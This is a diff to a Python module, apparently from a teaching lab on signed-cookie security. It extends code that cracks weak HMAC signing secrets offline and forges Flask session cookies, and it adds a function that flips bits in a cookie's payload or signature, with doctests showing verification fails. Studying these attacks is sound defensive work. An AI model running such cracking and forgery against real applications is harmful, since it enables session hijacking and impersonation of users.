@@ -1,4 +1,4 @@
-"""Cracking a weak signing secret offline, and forging a session with it.
+"""Attacks on signed cookies: crack a weak secret offline, forge a session, tamper.
 
 An attacker who captured one signed cookie can try candidate secrets on their own machine,
 as fast as the machine computes HMACs, without sending a single request: the cookie holds
@@ -14,20 +14,24 @@ in public code) is where an attacker starts; the seed's ``some secret key`` is o
 
 from __future__ import annotations
 
+import base64
 import functools
 import hashlib
 import sys
 import time
 from collections.abc import Callable, Sequence
 from dataclasses import dataclass
-from typing import Any
+from typing import Any, Literal
+from urllib.parse import quote
 
 from tqdm import tqdm
 
 from .cookies import (
+    EXPRESS_PREFIX,
     FLASK_SALT,
     SESSIONLAB_SALT,
     CookieAnatomy,
+    b64_standard,
     decode_cookie,
     sign_flask,
 )
@@ -183,3 +187,39 @@ def forge_flask(payload: dict[str, Any], secret: str | CrackResult) -> str:
     if key is None:
         raise ValueError("the crack found no secret: nothing to forge with")
     return sign_flask(payload, key)
+
+
+def tamper(value: str, part: Literal["payload", "signature"] = "payload") -> str:
+    """The cookie with one bit of its payload (or session id) or signature flipped.
+
+    The payload's first character moves to its neighbour in the base64 alphabet, which
+    changes the decoded bytes; the signature's first byte has its lowest bit flipped. The
+    result keeps the input's URL-encoding.
+
+    >>> tamper("s:abc.4n49lb1e6wSwqj3z/eJ/L/KrMgdgrdZXCS1ZU/V87VY")[:8]
+    's:bbc.4n'
+    >>> from sessionlab.cookies import sign_express, verify
+    >>> verify(tamper(sign_express("abc", "k"), "signature"), "k")
+    False
+    """
+    anatomy = decode_cookie(value)
+    if anatomy.kind == "unknown":
+        raise ValueError(f"cannot tamper with this cookie: {anatomy.problem}")
+    text = anatomy.value
+    if part == "signature":
+        flipped = bytes([anatomy.digest[0] ^ 1]) + anatomy.digest[1:]
+        encoded = (
+            b64_standard(flipped)
+            if anatomy.kind == "express"
+            else base64.urlsafe_b64encode(flipped).decode().rstrip("=")
+        )
+        text = text[: len(text) - len(anatomy.signature)] + encoded
+    else:
+        start = len(EXPRESS_PREFIX) if anatomy.kind == "express" else int(anatomy.compressed)
+        text = text[:start] + _neighbour(text[start]) + text[start + 1 :]
+    return quote(text, safe="") if "%" in value else text
+
+
+def _neighbour(char: str) -> str:
+    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
+    return alphabet[(alphabet.index(char) + 1) % len(alphabet)] if char in alphabet else "A"
